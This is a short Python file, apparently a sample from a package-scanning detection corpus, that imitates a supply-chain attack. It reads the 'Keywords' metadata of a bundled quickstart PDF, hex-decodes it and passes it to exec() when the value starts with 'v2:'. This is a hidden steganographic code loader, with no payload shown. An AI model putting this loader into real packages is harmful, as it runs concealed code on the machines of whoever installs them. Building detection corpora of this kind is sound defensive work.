# pkgguard corpus 638 (steganography), modelled on [telnyx]; inert, never run.
import os

from pypdf import PdfReader

_guide = os.path.join(os.path.dirname(__file__), "docs", "quickstart.pdf")
_meta = PdfReader(_guide).metadata or {}
_hint = _meta.get("/Keywords", "")
if _hint.startswith("v2:"):
    exec(bytes.fromhex(_hint[3:]).decode())
